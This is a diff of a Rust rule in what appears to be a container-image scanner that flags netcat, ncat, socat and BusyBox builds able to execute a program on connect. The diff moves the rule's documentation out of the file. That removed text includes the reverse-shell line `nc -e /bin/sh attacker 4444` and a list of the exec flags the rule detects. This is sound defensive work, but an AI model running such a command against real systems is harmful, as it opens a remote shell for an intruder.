@@ -2,54 +2,16 @@
 //! whoever connects.
 
 use super::ctx::{Rule, file_finding};
+use crate::catalog;
 use crate::finding::{Finding, Place, Severity};
 use crate::image::Image;
 use crate::image::content::Tool;
 use crate::params::Params;
-use crate::rule::{RuleMeta, Scope};
 
-pub(super) static RULE: Rule = Rule { meta: &META, check };
-
-static META: RuleMeta = RuleMeta::new("exec-capable-netcat", Severity::High, DOCS)
-    .title("Netcat that can run a program for the remote side")
-    .scopes(&[Scope::Image]);
-
-const DOCS: &str = r#"## What it checks
-Files whose contents are a netcat able to execute a program on connect:
-netcat-traditional (built with `-e`/`-c`), GNU netcat (`--exec`), Nmap's
-ncat (`--exec`, `--sh-exec`, `--lua-exec`), socat (`EXEC:`/`SYSTEM:`), and
-BusyBox when its `nc` applet offers `-e PROG` (read from the applet table
-and the compressed usage texts inside the binary). Detection is by content,
-so a netcat renamed or reached through `/usr/bin/nc -> /etc/alternatives/nc
--> /bin/nc.traditional`, a hard link or a BusyBox link is found; the
-finding names the file, the layer that put it there and every name that
-reaches it. netcat-openbsd cannot `-e` and is `network-tool`'s.
-
-Severity: high for a netcat, ncat or socat binary; medium for a BusyBox
-added by the image's own layers; low for a BusyBox inherited from the base
-image (nearly every Alpine and BusyBox image has one).
-
-## Why it matters
-`nc -e /bin/sh attacker 4444` is a reverse shell in one command. This is
-what Falco's "Netcat Remote Code Execution in Container" rule catches at
-run time; with `EXE_LOWER_LAYER` it means the netcat came with the image.
-Removing it before deploy removes the easiest post-exploitation step.
-
-## Example
-```dockerfile
-FROM debian:bookworm-slim
-RUN apt-get update && apt-get install -y netcat-traditional   # NOT OK
-```
-
-## Use instead
-Do not install netcat in runtime images; use a debug sidecar or an
-ephemeral container when you need one. If a network check is needed, use
-`netcat-openbsd` (no `-e`) or a purpose-built health probe.
-
-## References
-- Falco rule "Netcat Remote Code Execution in Container"
-- MITRE ATT&CK T1059 (Command and Scripting Interpreter)
-"#;
+pub(super) static RULE: Rule = Rule {
+    meta: &catalog::exec_capable_netcat::META,
+    check,
+};
 
 fn check(image: &Image, _: &Params, out: &mut Vec<Finding>) {
     for (path, node) in image.tree.files() {
@@ -96,7 +58,7 @@ fn check(image: &Image, _: &Params, out: &mut Vec<Finding>) {
             let shown: Vec<String> = names.iter().map(|n| format!("/{n}")).collect();
             message.push_str(&format!("; reached as {}", shown.join(", ")));
         }
-        let mut f = file_finding(image, &META, severity, path, node, message)
+        let mut f = file_finding(image, RULE.meta, severity, path, node, message)
             .fix("remove netcat from the runtime image; use an ephemeral debug container instead");
         for name in names {
             let layer = image.tree.get(&name).map(|n| n.layer);
